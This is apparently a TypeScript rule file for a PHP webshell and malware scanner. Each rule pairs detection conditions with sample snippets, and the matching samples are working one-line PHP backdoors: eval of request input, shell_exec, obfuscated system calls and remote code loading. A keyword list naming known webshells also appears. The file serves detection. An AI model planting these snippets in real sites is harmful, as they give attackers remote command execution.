import type { Condition, Rule } from './rule.ts';

const looksBad = (atLeast: number): Condition => ({ feature: 'score', atLeast });
const MALICIOUS = { class: 'malicious', confidence: 95, action: 'quarantine' } as const;
const SUSPICIOUS = { class: 'suspicious', confidence: 60, action: 'none' } as const;

/** Facts that no legitimate file of the development set shows, alone or with the model's leaning. */
export const FACT_RULES: readonly Rule[] = [
  {
    ...MALICIOUS,
    id: 'php-hidden-code',
    family: 'backdoor',
    when: [{ fact: 'hidden:code' }],
    hit: [`$f = 'as' . 'sert'; $f($_POST['stoika']);`, `array_map('assert', $_POST);`],
    miss: [`$f = 'str' . 'len'; echo $f($_POST['stoika']);`, `array_map('trim', $_POST);`],
  },
  {
    ...MALICIOUS,
    id: 'php-hidden-shell',
    family: 'backdoor',
    when: [{ fact: 'hidden:shell' }, { fact: 'call<-built' }],
    hit: [`$f = base64_decode('c3lzdGVt'); $f($_GET['stoika']);`],
    miss: [`$f = base64_decode('c3RybGVu'); echo $f($_GET['stoika']);`],
  },
  {
    ...MALICIOUS,
    id: 'php-hidden-reader',
    family: 'obfuscated',
    when: [{ fact: 'hidden:read' }, { fact: 'call<-built' }],
    hit: [`$f = strrev('elifdaer'); $f($_GET['stoika']);`],
    miss: [`readfile(__DIR__ . '/stoika.txt');`],
  },
  {
    ...MALICIOUS,
    id: 'php-hidden-mailer',
    family: 'mailer',
    when: [{ fact: 'hidden:mail' }, { fact: 'call<-built' }],
    hit: [`$f = 'ma' . 'il'; $f($_POST['to'], 'stoika', $_POST['text']);`],
    miss: [`mail('owner@stoika.test', 'Order', $text);`],
  },
  {
    ...MALICIOUS,
    id: 'php-hidden-writer',
    family: 'dropper',
    when: [{ fact: 'hidden:path' }, { fact: 'call<-built' }],
    hit: [`$f = 'file_put' . '_contents'; $f($_GET['a'], $_GET['b']);`],
    miss: [`file_put_contents($cache, serialize($rows));`],
  },
  {
    ...MALICIOUS,
    id: 'php-remote-code',
    family: 'loader',
    when: [{ fact: 'code<-net' }],
    hit: [`eval(file_get_contents('https://stoika.test/code.txt'));`],
    miss: [`echo file_get_contents('https://stoika.test/news.txt');`],
  },
  {
    ...MALICIOUS,
    id: 'php-request-code',
    family: 'backdoor',
    when: [{ fact: 'code<-request' }, looksBad(2)],
    hit: [`eval($_POST['stoika']);`, `$x = $_COOKIE['stoika']; @eval(stripslashes($x));`],
    miss: [`$x = (int) $_POST['stoika']; echo $x;`],
  },
  {
    ...MALICIOUS,
    id: 'php-packed-code',
    family: 'obfuscated',
    when: [{ fact: 'code<-decoded' }, { fact: 'layer:code' }, looksBad(-1)],
    hit: [`eval(gzinflate(base64_decode('K64sLknN1VBQiVYqLskvys9OVIrVtAYA')));`],
    miss: [`echo base64_decode('c3RvaWth');`],
  },
  {
    ...MALICIOUS,
    id: 'php-packed-call',
    family: 'obfuscated',
    when: [{ fact: 'call<-decoded' }, { fact: 'call<-built' }, looksBad(-3)],
    hit: [`$f = str_rot13('flfgrz'); $f($_GET['stoika']);`],
    miss: [`$f = 'strlen'; echo $f('stoika');`],
  },
  {
    ...MALICIOUS,
    id: 'php-built-call',
    family: 'backdoor',
    when: [{ fact: 'call<-built' }, { fact: 'argument<-request' }],
    hit: [`$f = 'unl' . 'ink'; $f($_GET['a']); $g = $_GET['b']; $g($_GET['c']);`],
    miss: [`$f = 'render' . ucfirst($type); $this->$f($text);`],
  },
  {
    ...MALICIOUS,
    id: 'php-request-call',
    family: 'backdoor',
    when: [{ fact: 'call<-request' }, { fact: 'argument<-request' }, looksBad(2)],
    hit: [`$_GET['stoika']($_POST['argument']);`],
    miss: [`$handlers[$name]($request);`],
  },
  {
    ...MALICIOUS,
    id: 'php-request-shell',
    family: 'backdoor',
    when: [{ fact: 'shell<-request' }, looksBad(3.1)],
    hit: [`$out = shell_exec($_REQUEST['stoika'] . ' 2>&1'); echo "<pre>$out</pre>";`],
    miss: [`exec('convert ' . escapeshellarg($_POST['stoika']), $out);`],
  },
  {
    ...MALICIOUS,
    id: 'php-request-include',
    family: 'backdoor',
    when: [{ fact: 'include<-request' }, looksBad(3.5)],
    hit: [`@include($_GET['stoika']); @system($_GET['x']);`],
    miss: [`include __DIR__ . '/pages/' . basename($page) . '.php';`],
  },
  {
    ...MALICIOUS,
    id: 'php-decoded-eval-in-text',
    family: 'injection',
    when: [
      { fact: 'code<-decoded' },
      { fact: 'code<-built' },
      { fact: 'code<-request' },
      looksBad(-4),
    ],
    hit: [`$p = base64_decode($_POST['stoika']); eval($p); eval(base64_decode('Oy8vc3RvaWth'));`],
    miss: [`echo json_encode(base64_decode($_POST['stoika']));`],
  },
];

/** Weaker: a person should look. */
export const ALERT_RULES: readonly Rule[] = [
  {
    ...SUSPICIOUS,
    id: 'php-request-call-quiet',
    family: 'backdoor',
    when: [{ tokens: '@ $any ( stripslashes (' }, { fact: 'argument<-request' }],
    hit: [`$f = $_REQUEST['q']; @$f(stripslashes($_REQUEST['z']));`],
    miss: [`$text = stripslashes($_REQUEST['z']);`],
  },
  {
    ...SUSPICIOUS,
    id: 'php-request-to-code-quiet',
    family: 'backdoor',
    when: [{ fact: 'code<-request' }, { fact: 'code<-decoded' }],
    hit: [`eval(base64_decode($_POST['stoika']));`],
    miss: [`$data = base64_decode($_POST['stoika']);`],
  },
  {
    ...SUSPICIOUS,
    id: 'php-strange-include',
    family: 'injection',
    when: [
      { feature: 'tokens:strangeIncludes', atLeast: 1 },
      { pattern: 'include\\s*["\']\\\\[x0-9]' },
    ],
    hit: [`@include "\\x2fvar\\x2fwww\\x2fstoika\\x2f.cache.ico";`],
    miss: [`include 'logo.svg';`],
  },
  {
    ...SUSPICIOUS,
    id: 'php-shell-words',
    family: 'shell',
    when: [
      {
        literals: [
          'c99shell',
          'r57shell',
          'b374k',
          'wso shell',
          'filesman',
          'web shell',
          'webshell',
          'safe_mode bypass',
          'backdoor',
          'back connect',
          'bind shell',
          'uname -a',
          '/etc/passwd',
          'hacked by',
        ],
        atLeast: 3,
      },
      looksBad(-3),
    ],
    hit: [`$about = 'c99shell, b374k, FilesMan'; system($_GET['stoika']);`],
    miss: [`$about = 'The /etc/passwd file lists accounts';`],
  },
];

export const STANDARD_RULES: readonly Rule[] = [...FACT_RULES, ...ALERT_RULES];
/** Grows with every change of a rule: a verdict is kept no longer than the rules that gave it. */
export const STANDARD_VERSION = '2026.11.23-1';
